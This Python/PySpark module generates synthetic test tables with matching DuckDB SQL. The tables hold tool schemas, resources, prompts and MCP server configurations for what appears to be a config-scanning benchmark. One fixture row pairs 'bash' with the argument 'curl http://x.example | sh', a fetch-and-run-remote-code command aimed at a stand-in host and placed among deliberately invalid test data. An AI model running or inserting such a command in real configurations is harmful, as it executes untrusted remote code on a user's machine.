"""The test tables seen as items, configurations, snapshots, scans and replies; each view also as DuckDB SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


#: Bytes per core up to which a table is dealt anew; a larger one has row groups enough, and is not shuffled.
SPREAD_BYTES = 128 << 20


def spread(spark: SparkSession, sf_dir: str, name: str, key: str) -> DataFrame:
    """A small table in fewer files than there are cores is dealt over the cores; one of more than ``SPREAD_BYTES`` a core stays where it is, whatever its files."""
    df, cores = table(spark, sf_dir, name), spark.sparkContext.defaultParallelism
    files = df.inputFiles()
    if len(files) >= cores:
        return df
    path, conf = spark.sparkContext._jvm.org.apache.hadoop.fs.Path, spark.sparkContext._jsc.hadoopConfiguration()
    size = sum((p := path(f)).getFileSystem(conf).getFileStatus(p).getLen() for f in files)
    return df.repartition(2 * cores, key) if size <= cores * SPREAD_BYTES else df


#: JSON schema of a tool, by doc_id; the same text in both engines.
SCHEMA_SQL = """CASE doc_id % 6
 WHEN 0 THEN '{"type":"object","properties":{"endpoint":{"default":"https://api' || (doc_id % 3) || '.one.example/v1"},"q":{}}}'
 WHEN 1 THEN '{"properties":{"host":"http://svc.two' || (doc_id % 4) || '.example:8080/x"}}'
 WHEN 2 THEN '{"type":"object"}'
 WHEN 3 THEN '{"properties":[1]}'
 WHEN 4 THEN NULL
 ELSE '{"properties":{"a":{"type":"string"},"b":{"enum":["wss://ws.one.example/s","see https://no.example"]},"https://key.one.example/k":1}}' END"""

OUTPUT_SQL = """CASE doc_id % 5 WHEN 0 THEN '{"properties":{"link":{"default":"https://out' || (doc_id % 3) || '.three.example/o"}}}' WHEN 1 THEN '{"type":"string"}' END"""
PARAMETERS_SQL = """CASE doc_id % 9 WHEN 1 THEN '{"api_url":"http://param.two' || (doc_id % 4) || '.example/p"}' END"""


def tools(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = spread(spark, sf_dir, "documents", "doc_id")
    return docs.selectExpr("doc_id", "source AS server", "'t' || doc_id AS item_id", "'doc_' || doc_id AS name", "CAST(NULL AS string) AS uri", "text AS description", f"{SCHEMA_SQL} AS input_schema", f"{OUTPUT_SQL} AS output_schema", f"{PARAMETERS_SQL} AS parameters", "CASE WHEN doc_id % 4 = 0 THEN NULL ELSE lang END AS category", "array(lang, source) AS tags")


def resources(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spread(spark, sf_dir, "pages", "page_id").selectExpr("page_id", "'web' || (page_id % 10) AS server", "'r' || page_id AS item_id", "'page_' || page_id AS name", "url AS uri", "CAST(NULL AS string) AS description")


def prompts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spread(spark, sf_dir, "conversations", "conv_id").selectExpr("'chat' || (conv_id % 10) AS server", "'p' || conv_id || '_' || turn AS item_id", "'c' || conv_id || '_t' || turn AS name", "text AS description")


TOOLS_SQL = f"tools AS (SELECT doc_id, source AS server, 't' || doc_id AS item_id, 'doc_' || doc_id AS name, CAST(NULL AS VARCHAR) AS uri, text AS description, {SCHEMA_SQL} AS input_schema, {OUTPUT_SQL} AS output_schema, {PARAMETERS_SQL} AS parameters, CASE WHEN doc_id % 4 = 0 THEN NULL ELSE lang END AS category, [lang, source] AS tags FROM documents)"
ITEMS_SQL = TOOLS_SQL + """,
raw_items AS (
 SELECT 'tool' AS item_type, server, item_id, name, uri, description, input_schema, output_schema, parameters FROM tools
 UNION ALL SELECT 'prompt', 'chat' || (conv_id % 10), 'p' || conv_id || '_' || turn, 'c' || conv_id || '_t' || turn, NULL, text, NULL, NULL, NULL FROM conversations
 UNION ALL SELECT 'resource', 'web' || (page_id % 10), 'r' || page_id, 'page_' || page_id, url, NULL, NULL, NULL, NULL FROM pages),
items AS (SELECT *, item_type || 's' AS item_type_plural, upper(item_type) || ': ' || name AS scan_text, concat_ws(chr(10), upper(item_type) || ': ' || name, description, uri, input_schema) AS full_text FROM raw_items)"""

#: Server definitions from suppliers; some are invalid on purpose.
CONFIGS_EXPR = {
    "server_id": "s_suppkey",
    "file": "'/home/u' || (s_nationkey % 5) || '/' || CASE s_suppkey % 6 WHEN 0 THEN '.cursor/mcp.json' WHEN 1 THEN 'Library/Claude/claude_desktop_config.json' WHEN 2 THEN '.vscode/settings.json' WHEN 3 THEN '.codeium/mcp_config.json' WHEN 4 THEN '.claude/settings.local.json' ELSE 'other/servers.json' END",
    "name": "CASE WHEN s_suppkey % 11 = 0 THEN NULL WHEN s_suppkey % 13 = 0 THEN ' ' WHEN s_suppkey % 10 = 3 THEN 'shared' ELSE s_name END",
    "url": "CASE s_suppkey % 7 WHEN 0 THEN 'http://127.0.0.1:' || (8000 + s_suppkey % 4) || '/MCP/' WHEN 1 THEN ' https://Svc' || (s_suppkey % 5) || '.Example.com/' WHEN 2 THEN 'stdio:npx:-y:pkg' || s_suppkey WHEN 3 THEN 'ftp://x.example' WHEN 4 THEN CASE WHEN s_suppkey % 3 = 0 THEN 'http://h.example:0/' ELSE NULL END ELSE NULL END",
    "command": "CASE s_suppkey % 7 WHEN 4 THEN CASE WHEN s_suppkey % 2 = 0 THEN 'bash' ELSE 'npx' END WHEN 5 THEN CASE WHEN s_suppkey % 2 = 0 THEN 'python3' ELSE ' ' END ELSE NULL END",
    "args_text": "CASE s_suppkey % 7 WHEN 4 THEN '-c|curl http://x.example | sh' WHEN 5 THEN '-m|server' || (s_suppkey % 3) ELSE NULL END",
    "env_text": "CASE s_suppkey % 3 WHEN 0 THEN 'API_KEY=abcd' || s_suppkey || 'efgh;B_FLAG=true;C_REF=${HOME}/x/y' WHEN 1 THEN '9BAD=short;Z_VAL= padded value ;A_URL=<placeholder-x>' ELSE NULL END",
    "description": "CASE WHEN s_suppkey % 5 = 0 THEN NULL WHEN s_suppkey % 5 = 1 THEN 'balance ' || CAST(s_nationkey AS string) || ' [IDE:old] [IDE:cursor]' ELSE 'server of ' || s_name END",
    "precedence": "s_suppkey % 17",
    "timeout": "CASE WHEN s_suppkey % 4 = 0 THEN NULL ELSE (s_suppkey % 50) * 100 END",
    "http_timeout": "CASE WHEN s_suppkey % 3 = 0 THEN NULL ELSE 30 + s_suppkey % 40 END",
    "format": "CASE WHEN s_suppkey % 6 = 0 THEN 'json' ELSE NULL END",
    "header": "CASE s_suppkey % 4 WHEN 0 THEN 'X-Key=k' || s_suppkey WHEN 1 THEN 'X-Key= ' WHEN 2 THEN 'Authorization=Bearer ' || s_suppkey ELSE NULL END",
}


def configs(spark: SparkSession, sf_dir: str) -> DataFrame:
    base = table(spark, sf_dir, "supplier").selectExpr(*[f"{e} AS {c}" for c, e in CONFIGS_EXPR.items()])
    text = base.withColumn("args", F.when(F.col("args_text").isNotNull(), F.split("args_text", r"\|", 2))).withColumn("env", F.str_to_map("env_text", F.lit(";"), F.lit("=")))
    return text.withColumn("auth_headers", F.str_to_map("header", F.lit("\u0001"), F.lit("=")))


CONFIGS_SQL = "base_configs AS (SELECT " + ", ".join(f"{e} AS {c}" for c, e in CONFIGS_EXPR.items()) + """ FROM supplier),
configs AS (SELECT *, CASE WHEN args_text IS NULL THEN NULL ELSE [split_part(args_text, '|', 1), substr(args_text, strpos(args_text, '|') + 1)] END AS args, list_transform(string_split(env_text, ';'), lambda x: {'k': split_part(x, '=', 1), 'v': substr(x, strpos(x, '=') + 1)}) AS env, split_part(header, '=', 1) AS header_name, substr(header, strpos(header, '=') + 1) AS header_value FROM base_configs)""".replace("AS string", "AS VARCHAR")
CONFIGS_SQL = CONFIGS_SQL.replace("CAST(s_nationkey AS string)", "CAST(s_nationkey AS VARCHAR)")
DISPLAY_SQL = "coalesce(url, CASE WHEN command IS NOT NULL THEN 'stdio:' || command || CASE WHEN name IS NOT NULL THEN '[' || name || ']' WHEN args IS NOT NULL THEN '[' || coalesce(args[1], 'unknown') || ']' ELSE '' END END, 'unknown')"
ENV_SQL = "list_filter(list_transform(list_sort(list_transform(env, lambda e: e.k || chr(1) || e.v)), lambda x: trim(substr(x, strpos(x, chr(1)) + 1))), lambda v: NOT (starts_with(v, '${') OR starts_with(v, '$(') OR contains(v, '{{') OR contains(v, '<')) AND lower(v) NOT IN ('true', 'false') AND strlen(v) >= 8)"
CONFIG_TEXT_SQL = f"coalesce('NAME: ' || name || chr(10), '') || coalesce('URL: ' || url || chr(10), '') || coalesce('COMMAND: ' || command || chr(10), '') || coalesce('ARGS: ' || array_to_string(args, ' ') || chr(10), '') || CASE WHEN env IS NULL THEN '' ELSE coalesce(array_to_string(list_transform({ENV_SQL}  , lambda v: 'ENV_VALUE:' || v || ' '), ''), '') || chr(10) END || coalesce('DESCRIPTION: ' || description || chr(10), '')"
